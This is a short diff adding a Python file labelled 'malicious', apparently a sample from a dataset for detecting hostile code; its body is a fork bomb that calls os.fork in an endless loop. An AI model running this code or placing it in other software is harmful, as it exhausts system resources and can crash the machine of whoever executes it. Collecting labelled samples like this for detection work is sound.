@@ -1,0 +1,4 @@
+# label: malicious
+import os
+while True:
+    os.fork()
